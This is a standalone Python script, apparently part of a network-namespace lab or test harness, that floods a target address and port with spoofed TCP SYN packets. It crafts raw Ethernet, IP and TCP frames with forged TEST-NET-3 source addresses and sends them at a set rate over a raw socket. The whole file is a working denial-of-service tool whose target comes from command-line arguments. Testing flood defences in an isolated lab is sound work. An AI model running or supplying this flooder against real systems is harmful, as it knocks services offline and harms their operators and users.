"""A flood of SYNs from addresses that nobody has: `python syn_flood.py DEVICE MAC ADDRESS PORT RATE [SECONDS]`, in an
attacker's namespace. Stands alone.

MAC: whose frames for ADDRESS go there. RATE: SYNs/s. It prints "ready" when the first ones are out, ends after SECONDS
or on SIGTERM, and prints one JSON object then: `sent`, and `seconds`.
"""

from __future__ import annotations

import json
import random
import signal
import socket
import struct
import sys
import time

SOURCES = socket.inet_aton("203.0.113.0")[:3]
"""The first bytes of the senders' addresses: of TEST-NET-3, behind no router (RFC 5737)."""
BURST = 0.002
"""Seconds between two bursts."""


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(ethernet: bytes, address: bytes, port: int) -> bytes:
    """From any of the sources and any port."""
    source = SOURCES + bytes([random.randrange(1, 255)])
    tcp = struct.pack("!HHIIHHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 0x5002, 64240, 0, 0)
    pseudo = source + address + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    head = struct.pack("!HHHHBBH4s4s", 0x4500, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0, source, address)
    return ethernet + head[:10] + struct.pack("!H", checksum(head)) + head[12:] + tcp


def main() -> None:
    """Raises OSError where there is no such device."""
    device, mac, address, port, rate, *rest = sys.argv[1:]
    stopped: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, _: stopped.append(number))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((device, 0))
        ethernet = bytes.fromhex(mac.replace(":", "")) + raw.getsockname()[4] + b"\x08\x00"
        frames = [syn(ethernet, socket.inet_aton(address), int(port)) for _ in range(200_000)]
        begun, sent, announced = time.monotonic(), 0, False
        end = begun + float(rest[0] if rest else "inf")
        while not stopped and (now := time.monotonic()) < end:
            due = int((now - begun) * float(rate))
            for number in range(sent, due):
                raw.send(frames[number % len(frames)])
            sent = max(sent, due)
            if sent and not announced:
                announced = True
                print("ready", flush=True)
            time.sleep(BURST)
        print(json.dumps({"sent": sent, "seconds": time.monotonic() - begun}))


if __name__ == "__main__":
    main()
